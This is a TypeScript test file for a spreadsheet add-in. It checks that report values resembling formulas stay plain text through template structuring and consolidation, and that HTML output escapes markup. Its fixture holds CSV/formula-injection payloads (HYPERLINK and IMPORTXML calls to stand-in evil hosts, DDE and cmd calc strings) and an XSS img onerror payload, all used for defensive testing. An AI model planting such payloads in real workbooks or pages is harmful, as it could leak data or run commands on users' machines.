/**
 * Formula injection (SPEC §7, issue 9): text from a source that starts with = + - @ or a tab is
 * written as text. A hostile report is structured into a template and consolidated into a
 * summary through the file adapter; the saved files are then opened with ExcelJS directly and
 * unzipped by hand, and no cell may hold a formula the add-in did not author. (The add-in
 * authors no cell formulas in either: its formulas are conditional formats and validations.)
 */
import * as zlib from "node:zlib";
import ExcelJS from "exceljs";
import { buildSummarySheets, renderSummaryHtml } from "../../src/core/consolidate";
import { standardProfile } from "../../src/core/profile/load";
import { buildTemplateSheets } from "../../src/core/template";
import {
  consolidateSources,
  structureSheetIntoTemplate,
  writeSummary,
} from "../../src/core/workflow";
import { FileWorkbook, readZipDirectory } from "../../src/workbook/file";

const HOSTILE = {
  organisation: '=HYPERLINK("http://example.invalid/?d="&A1,"Klicka här")',
  goal: "+SUM(A1:A9)",
  activity: '=HYPERLINK("http://evil.invalid","Öppna")',
  activity2: "-2+3 ny rutin",
  activity3: "@SUM(1,2)",
  activity4: '\t=DDE("cmd";"/C calc";"A0")',
  responsible: "=cmd|' /C calc'!A0",
  comment: '\t=IMPORTXML("http://evil.invalid","//a")',
  comment2: "+46 13 20 00 00",
  comment3: "-- se bilaga <img src=x onerror=alert(1)>",
  perspective: "=Samhälle",
};

/** The hostile report, written as an ordinary user's workbook (every value a plain string). */
async function hostileWorkbook(): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet("Uppföljning");
  sheet.addRow(["Uppföljning av verksamhetsplanen"]);
  sheet.addRow(["Förvaltning", HOSTILE.organisation]);
  sheet.addRow(["År", "2024"]);
  sheet.addRow(["Period", "Delår"]);
  sheet.addRow([]);
  sheet.addRow([
    "Perspektiv",
    "Nämndmål",
    "Aktivitet",
    "Slutdatum",
    "Ansvarig",
    "Status",
    "Kommentar",
  ]);
  sheet.addRow([
    HOSTILE.perspective,
    HOSTILE.goal,
    HOSTILE.activity,
    "Kvartal 4",
    HOSTILE.responsible,
    "Pågående",
    HOSTILE.comment,
  ]);
  sheet.addRow([
    "Medarbetare",
    "-Mål som börjar med minus",
    HOSTILE.activity2,
    "2024-12-31",
    "@chef",
    "Genomfört",
    HOSTILE.comment2,
  ]);
  sheet.addRow([
    "Ekonomi",
    "@mål",
    HOSTILE.activity3,
    "Kvartal 2",
    "Ekonomichef",
    "Försenad",
    HOSTILE.comment3,
  ]);
  sheet.addRow(["Ekonomi", "@mål", HOSTILE.activity4, "Kvartal 3", "+chef", "Ej påbörjad", "=1+1"]);
  // Make sure the input itself carries no formula: every hostile value is a string cell.
  sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).toBe(ExcelJS.ValueType.String)));
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

interface FoundFormula {
  sheet: string;
  cell: string;
  formula: string;
}

/** Every cell formula ExcelJS finds in the file. */
async function cellFormulas(bytes: Uint8Array): Promise<FoundFormula[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const found: FoundFormula[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula)
          found.push({ sheet: sheet.name, cell: cell.address, formula: cell.formula });
      }),
    );
  }
  return found;
}

/** The worksheets' raw XML, unzipped by hand: a <f> element anywhere is a cell formula. */
function worksheetXml(bytes: Uint8Array): string[] {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  return readZipDirectory(bytes)
    .filter((entry) => /^xl\/worksheets\/[^/]+\.xml$/.test(entry.name))
    .map((entry) => {
      const at = entry.localHeaderOffset;
      const start = at + 30 + view.getUint16(at + 26, true) + view.getUint16(at + 28, true);
      const data = bytes.subarray(start, start + entry.compressedSize);
      return (entry.method === 8 ? zlib.inflateRawSync(data) : Buffer.from(data)).toString("utf8");
    });
}

/** Cell formulas the add-in authors itself in these specs (none today), by sheet and address. */
function authoredFormulas(
  specs: { name: string; cells: { row: number; col: number; formula?: string }[] }[],
): Set<string> {
  const authored = new Set<string>();
  for (const spec of specs)
    for (const cell of spec.cells)
      if (cell.formula) authored.add(`${spec.name}!${cell.row}:${cell.col}`);
  return authored;
}

async function allStrings(bytes: Uint8Array): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const texts: string[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => typeof cell.value === "string" && texts.push(cell.value)),
    );
  return texts;
}

let source: Uint8Array;
beforeAll(async () => {
  source = await hostileWorkbook();
});

describe("texts that look like formulas stay text", () => {
  it("structuring into a template: the saved workbook holds no cell formula, and the texts are there as text", async () => {
    const port = await FileWorkbook.open(source);
    const { sheet, result } = await structureSheetIntoTemplate(port, "Uppföljning", {
      profile: standardProfile,
      file: "farlig.xlsx",
    });
    expect(result.ok).toBe(true);
    expect(sheet).not.toBeNull();
    if (!result.ok) return;
    expect(result.report.activities).toHaveLength(4);

    const saved = await port.save();
    const specs = buildTemplateSheets({
      meta: result.report,
      activities: result.report.activities,
      profile: standardProfile,
      register: result.register,
      sheetName: sheet!,
    });
    const authored = authoredFormulas(specs);
    expect(authored.size).toBe(0);
    expect(await cellFormulas(saved)).toEqual([]);
    for (const xml of worksheetXml(saved)) expect(xml).not.toMatch(/<f[ >]/);

    // The template sheet carries the hostile texts, as strings, exactly as read (trimmed).
    const reopened = await FileWorkbook.open(saved);
    const grid = await reopened.readSheet(sheet!);
    const cells = grid.rows.flat().filter((cell) => cell !== null);
    expect(cells.every((cell) => cell.formula === undefined)).toBe(true);
    const texts = cells.map((cell) => cell.text);
    for (const text of [
      HOSTILE.goal,
      HOSTILE.activity,
      HOSTILE.activity2,
      HOSTILE.activity3,
      HOSTILE.responsible,
      HOSTILE.comment2,
    ])
      expect(texts).toContain(text);
    expect(texts).toContain(HOSTILE.activity4.trim());
  });

  it("consolidating: the summary workbook holds no cell formula, the texts are in it as text, and the HTML escapes markup", async () => {
    const summary = await consolidateSources(
      [{ file: "farlig.xlsx", open: () => FileWorkbook.open(source) }],
      {
        profile: standardProfile,
        now: new Date("2026-11-25T10:00:00Z"),
      },
    );
    expect(summary.sources[0]!.status).toBe("ok");
    expect(summary.rows).toHaveLength(4);
    const out = FileWorkbook.create();
    await writeSummary(out, summary, standardProfile);
    const saved = await out.save();

    expect(authoredFormulas(buildSummarySheets(summary, standardProfile)).size).toBe(0);
    expect(await cellFormulas(saved)).toEqual([]);
    for (const xml of worksheetXml(saved)) expect(xml).not.toMatch(/<f[ >]/);

    const texts = await allStrings(saved);
    for (const text of [
      HOSTILE.organisation,
      HOSTILE.goal,
      HOSTILE.activity,
      HOSTILE.activity3,
      HOSTILE.responsible,
      HOSTILE.comment3,
    ])
      expect(texts).toContain(text);

    const html = renderSummaryHtml(summary, standardProfile);
    expect(html).not.toContain("<img");
    expect(html).toMatch(/(&lt;|&#60;)img src=x onerror=alert\(1\)(&gt;|&#62;)/);
  });
});
